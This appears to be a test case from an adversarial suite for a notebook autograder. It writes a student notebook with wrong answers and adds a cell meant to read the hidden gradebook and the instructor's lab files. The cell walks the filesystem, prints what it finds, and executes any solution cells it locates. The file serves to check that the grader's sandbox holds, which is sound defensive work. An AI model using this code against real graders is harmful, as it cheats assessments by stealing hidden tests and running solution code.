"""Case 58_read_hidden_tests: Reads the gradebook (holds the hidden tests) and the repo's copy of
the lab: invisible.
"""

ATTACK = r"""
import json
import os
import sys

CTX = {ctx}
found = []
for path in CTX["targets"]:
    try:
        with open(path, "rb") as f:
            found.append(f.read(50_000_000).decode("utf-8", "replace"))
    except OSError as exc:
        print("blocked", path, type(exc).__name__)
# Not the big read-only trees, and not the student's own folder (its notebook holds this cell).
skip = ("/proc", "/sys", "/dev", "/usr", sys.prefix, sys.base_prefix, os.getcwd())
MARKER = "### BEGIN " + "SOLUTION"
for root, dirs, files in os.walk("/"):
    if root.startswith(skip):
        dirs[:] = []
        continue
    for name in files:
        if name.endswith((".ipynb", ".db", ".yml", ".json")):
            try:
                with open(os.path.join(root, name), "rb") as f:
                    found.append(f.read(50_000_000).decode("utf-8", "replace"))
            except OSError:
                pass
print("\n".join(found))
for text in found:
    try:
        for cell in json.loads(text).get("cells", []):
            src = "".join(cell.get("source", ""))
            if MARKER in src and cell.get("cell_type") == "code":
                exec(src, globals())
    except Exception:
        pass
"""
TARGETS = [
    "{gradebook}",
    "{course}/gradebook.db",
    "{repo}/tests/graders/adversarial/lab/source/lab01/lab01.ipynb",
]


def make(kit):
    """Wrong answers; a cell reads the trusted side's files and runs any solution it finds."""
    kit.wrong()
    targets = [t.format(**kit.ctx) for t in TARGETS]
    kit.insert("mean_center_answer", ATTACK.replace("{ctx}", repr({"targets": targets})))
    kit.write()
